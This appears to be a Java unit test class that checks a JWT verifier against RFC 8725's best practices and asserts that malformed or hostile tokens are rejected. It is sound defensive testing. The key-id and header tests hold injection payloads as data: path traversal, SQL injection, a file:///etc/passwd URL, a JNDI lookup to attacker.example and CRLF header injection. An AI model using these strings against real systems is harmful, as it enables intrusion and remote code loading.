package io.bailiwick.adapter.token;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.bailiwick.adapter.keys.JwksFile;
import io.bailiwick.adapter.keys.JwsAlgorithm;
import io.bailiwick.adapter.keys.PemKeys;
import io.bailiwick.adapter.keys.SharedSecret;
import io.bailiwick.adapter.keys.VerificationKey;
import io.bailiwick.adapter.token.TokenRejected.Reason;
import io.bailiwick.testkit.TestIssuer;
import io.bailiwick.testkit.TestKey;
import io.bailiwick.testkit.TestToken;
import io.bailiwick.testkit.TestTokens;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyFactory;
import java.security.interfaces.ECPublicKey;
import java.security.spec.ECPoint;
import java.security.spec.ECPublicKeySpec;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * RFC 8725, JSON Web Token Best Current Practices, 3: each of its practices, or that what it speaks
 * of is refused altogether.
 */
class Rfc8725PracticesTest extends Rfc8725TestBase {
  @Test
  void section3_1_algorithmIsTheKeysNotTheTokens() {
    for (String other : List.of("PS256", "RS384", "ES256", "EdDSA")) {
      String token = signWith(header().replace("RS256", other));
      assertThatThrownBy(() -> verifier.verify(token)).isInstanceOf(TokenRejected.class);
    }
    assertRejected(signWith(header().replace("RS256", "HS256")), Reason.UNKNOWN_KEY);
  }

  @Test
  void section3_1_algorithmIsComparedExactly() {
    for (String alg :
        List.of("rs256", "Rs256", "RS256 ", " RS256", "RS256\\u0000", "\\uFF32S256")) {
      assertRejected(signWith(header().replace("RS256", alg)), Reason.UNSUPPORTED_ALGORITHM);
    }
    // an escape is only another spelling of the same text
    assertThat(verifier.verify(signWith(header().replace("RS256", "\\u0052S256")))).isNotNull();
    for (String alg : List.of("null", "256", "[\"RS256\"]", "{}", "true")) {
      assertRejected(signWith(header().replace("\"RS256\"", alg)), Reason.MALFORMED);
    }
  }

  @Test
  void section3_2_algorithms_areAListAndNoneOfThemIsWeak() {
    assertThat(JwsAlgorithm.values())
        .extracting(JwsAlgorithm::jwsName)
        .containsExactlyInAnyOrder(
            "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512",
            "EdDSA", "HS256");
    assertThatThrownBy(() -> PemKeys.parse(TestKey.rsa("weak", "RS256", 1024).pem()))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void section3_3_everySignature_isChecked() {
    assertRejected(token().flippedByte(), Reason.BAD_SIGNATURE);
    for (String algorithm : List.of("PS256", "ES256", "EdDSA")) {
      TestKey key = TestKey.generate("one", algorithm);
      AgentTokenVerifier verifier = of(key);
      TestToken token = token().signedWith(key);
      assertThat(verifier.verify(token.sign())).isNotNull();
      assertRejected(verifier, token.flippedByte(), Reason.BAD_SIGNATURE);
      assertRejected(
          verifier,
          token().signedWith(TestKey.generate("one", algorithm)).sign(),
          Reason.BAD_SIGNATURE);
    }
  }

  @Test
  void section3_4_pointOffItsCurve_isNoKey() throws Exception {
    ECPublicKey good = (ECPublicKey) TestKey.generate("ec", "ES256").publicKey();
    ECPoint off =
        new ECPoint(
            good.getW().getAffineX(), good.getW().getAffineY().add(java.math.BigInteger.ONE));
    assertThatThrownBy(
            () ->
                VerificationKey.of(
                    Optional.empty(),
                    KeyFactory.getInstance("EC")
                        .generatePublic(new ECPublicKeySpec(off, good.getParams()))))
        .isInstanceOfAny(
            IllegalArgumentException.class, java.security.spec.InvalidKeySpecException.class);
  }

  @Test
  void section3_4_ecdsaSignatureOfZeros_isBad() {
    TestKey key = TestKey.generate("ec", "ES256");
    String good = token().signedWith(key).sign();
    String zeros = good.substring(0, good.lastIndexOf('.') + 1) + "A".repeat(86);
    assertRejected(of(key), zeros, Reason.BAD_SIGNATURE);
  }

  @Test
  void section3_5_secretForDevelopment_hasAsManyBitsAsItsHash() {
    assertThat(SharedSecret.forDevelopment(new java.security.SecureRandom().generateSeed(32)))
        .isNotNull();
    assertThatThrownBy(() -> SharedSecret.forDevelopment("a".repeat(31)))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void section3_6_compression_isForbidden() {
    assertRejected(signWith(headerWith("\"zip\":\"DEF\"")), Reason.FORBIDDEN_HEADER);
    assertRejected(signWith(headerWith("\"zip\":null")), Reason.FORBIDDEN_HEADER);
  }

  @Test
  void section3_7_whatIsNotUtf8_isMalformed() {
    byte[] header = header().getBytes(StandardCharsets.UTF_8);
    List<byte[]> bad = new ArrayList<>();
    for (int[] octets :
        List.of(
            new int[] {0xFF},
            new int[] {0x80},
            new int[] {0xC0, 0xAF}, // overlong slash
            new int[] {0xE0, 0x80, 0xAF},
            new int[] {0xED, 0xA0, 0x80}, // half of a surrogate pair
            new int[] {0xF4, 0x90, 0x80, 0x80}, // beyond the last code point
            new int[] {0xC3})) {
      String[] around = payload(Map.of("name", "\"~\"")).split("~", -1);
      var bytes = new java.io.ByteArrayOutputStream();
      bytes.writeBytes(around[0].getBytes(StandardCharsets.UTF_8));
      for (int octet : octets) {
        bytes.write(octet);
      }
      bytes.writeBytes(around[1].getBytes(StandardCharsets.UTF_8));
      bad.add(bytes.toByteArray());
    }
    for (byte[] payload : bad) {
      assertRejected(TestTokens.sign(issuer.key(), header, payload), Reason.MALFORMED);
    }
    String name = "J\u00fcrgen \ud83d\ude00";
    assertThat(verifier.verify(sign(payload(Map.of("name", "\"" + name + "\"")))).name())
        .contains(name);
    for (String half : List.of("\\ud800", "\\udc00", "\\udc00\\ud800", "\\ud800x")) {
      assertRejected(sign(payload(Map.of("name", "\"" + half + "\""))), Reason.MALFORMED);
      assertRejected(sign(payload(Map.of("unread", "[\"" + half + "\"]"))), Reason.MALFORMED);
      assertRejected(sign(payload(Map.of("unread" + half, "1"))), Reason.MALFORMED);
    }
  }

  @Test
  void section3_8_issuer_isComparedExactlyAndBoundToItsKeys() {
    String name = issuer.issuer();
    for (String other :
        List.of(
            name + "/",
            name + " ",
            " " + name,
            name + "#",
            name + "?",
            name.toUpperCase(java.util.Locale.ROOT),
            name.replace("http:", "https:"))) {
      assertRejected(token().claim("iss", other).sign(), Reason.WRONG_ISSUER);
    }
    assertRejected(token().without("iss").sign(), Reason.WRONG_ISSUER);
    TestKey foreign = TestKey.generate("foreign", "RS256");
    AgentTokenVerifier two =
        builder().issuer("https://other.example", PemKeys.parse(foreign.pem())).build();
    assertRejected(two, token().claim("iss", "https://other.example").sign(), Reason.BAD_SIGNATURE);
    assertRejected(
        two, token().signedWith(foreign.withKid(issuer.key().kid())).sign(), Reason.BAD_SIGNATURE);
  }

  @Test
  void section3_8_subject_isThereAndSomething() {
    assertRejected(token().without("sub").sign(), Reason.BAD_SUBJECT);
    assertRejected(token().subject(" ").sign(), Reason.BAD_SUBJECT);
    assertRejected(token().subject("a\u0000b").sign(), Reason.BAD_SUBJECT);
    assertRejected(token().claim("sub", 7).sign(), Reason.MALFORMED);
  }

  @Test
  void section3_9_audience_isTextOrTextsAndNamesThisService() {
    String mine = "\"" + TestIssuer.AUDIENCE + "\"";
    assertThat(verifier.verify(sign(payload(Map.of("aud", mine))))).isNotNull();
    assertThat(verifier.verify(sign(payload(Map.of("aud", "[\"x\"," + mine + "]"))))).isNotNull();
    // the same name twice in an array says nothing new
    assertThat(verifier.verify(sign(payload(Map.of("aud", "[" + mine + "," + mine + "]")))))
        .isNotNull();
    for (String other : List.of("[]", "\"\"", "[\"\"]", "[\"x\"]", "\"x " + mine.substring(1))) {
      assertRejected(sign(payload(Map.of("aud", other))), Reason.WRONG_AUDIENCE);
    }
    for (String bad :
        List.of(
            "{}",
            "{\"a\":" + mine + "}",
            "7",
            "true",
            "null",
            "[[" + mine + "]]",
            "[" + mine + ",7]",
            "[" + mine + ",null]",
            "[" + mine + ",{}]")) {
      assertRejected(sign(payload(Map.of("aud", bad))), Reason.MALFORMED);
    }
  }

  @Test
  void section3_10_keyThatComesWithTheToken_isForbidden() {
    for (String name : List.of("jwk", "jku", "x5u", "x5c", "crit", "b64", "zip", "enc")) {
      for (String value : List.of("null", "{}", "[]", "\"https://attacker.example\"", "true")) {
        assertRejected(signWith(headerWith("\"" + name + "\":" + value)), Reason.FORBIDDEN_HEADER);
      }
    }
    // a certificate's thumbprint brings nothing and points nowhere
    assertThat(verifier.verify(signWith(headerWith("\"x5t\":\"abc\"")))).isNotNull();
  }

  @Test
  void section3_10_keyId_onlyChoosesAmongTheIssuersKeys(@TempDir Path folder) throws Exception {
    // of a file, which is not read again for an unknown id
    AgentTokenVerifier ofFile =
        AgentTokenVerifier.builder()
            .issuer(
                issuer.issuer(),
                JwksFile.read(Files.writeString(folder.resolve("jwks.json"), issuer.jwks())))
            .audience(TestIssuer.AUDIENCE)
            .clock(clock)
            .build();
    assertThat(ofFile.verify(signWith(header()))).isNotNull();
    for (String kid :
        List.of(
            "../../../../dev/null",
            "' OR 1=1 --",
            "key\\u0000",
            "\\u0000",
            "file:///etc/passwd",
            "${jndi:ldap://attacker.example}",
            "\\ud83d\\ude00",
            "\\r\\nSet-Cookie: a=b",
            issuer.key().kid() + " ")) {
      assertRejected(
          ofFile, signWith(header().replace(issuer.key().kid(), kid)), Reason.UNKNOWN_KEY);
    }
    for (String kid : List.of("null", "7", "[]", "{}", "\"\"", "\"" + "k".repeat(257) + "\"")) {
      assertRejected(
          signWith(header().replace("\"" + issuer.key().kid() + "\"", kid)), Reason.MALFORMED);
    }
  }

  @Test
  void section3_10_dates_areWholeSecondsInRange() {
    String digits = "9".repeat(300);
    for (String value :
        List.of(
            "\"4102444800\"",
            "4102444800.5",
            "4102444800.0",
            "4.1024448e9",
            "1e400",
            "-1e400",
            "1e-400",
            "1E999999999",
            "1e99999999999",
            "1e-99999999999",
            "1.5E2147483648",
            "-1",
            "-0.0",
            "NaN",
            "Infinity",
            "\"NaN\"",
            "253402300800",
            "9223372036854775807",
            "9223372036854775808",
            "18446744073709551616",
            digits,
            "null",
            "true",
            "[4102444800]",
            "{}",
            "0x7fffffff",
            "04102444800",
            "+4102444800")) {
      for (String name : List.of("exp", "iat", "nbf")) {
        assertRejected(sign(payload(Map.of(name, value))), Reason.MALFORMED);
      }
    }
    assertRejected(sign(payload(Map.of("exp", "0"))), Reason.EXPIRED);
    assertRejected(token().without("exp").sign(), Reason.MISSING_CLAIM);
  }

  @Test
  void section3_11_type_isExplicitInAnyCaseButNothingElse() {
    for (String type : List.of("at+jwt", "AT+JWT", "application/at+jwt", "APPLICATION/at+JWT")) {
      assertThat(verifier.verify(token().header("typ", type).sign())).isNotNull();
    }
    for (String type :
        List.of("", "at+jwt;v=1", " at+jwt", "at+jwt\u0000", "at", "text/at+jwt", "\uff41t+jwt")) {
      assertRejected(token().header("typ", type).sign(), Reason.WRONG_TYPE);
    }
    assertRejected(token().withoutHeader("typ").sign(), Reason.WRONG_TYPE);
    assertRejected(token().header("typ", List.of("at+jwt")).sign(), Reason.MALFORMED);
  }

  @Test
  void section3_12_tokenOfOneKind_neverPassesForAnother() {
    // the same issuer, key, audience and times: only the kind differs
    for (String type : List.of("ID", "Refresh", "Offline", "Logout", "bearer", "BEARER")) {
      assertRejected(token().claim("typ", type).sign(), Reason.WRONG_TYPE);
    }
    AgentTokenVerifier loose = builder().acceptPlainJwtType().build();
    assertRejected(loose, token().idToken().sign(), Reason.WRONG_TYPE);
    assertRejected(loose, token().refreshToken().sign(), Reason.WRONG_TYPE);
  }
}
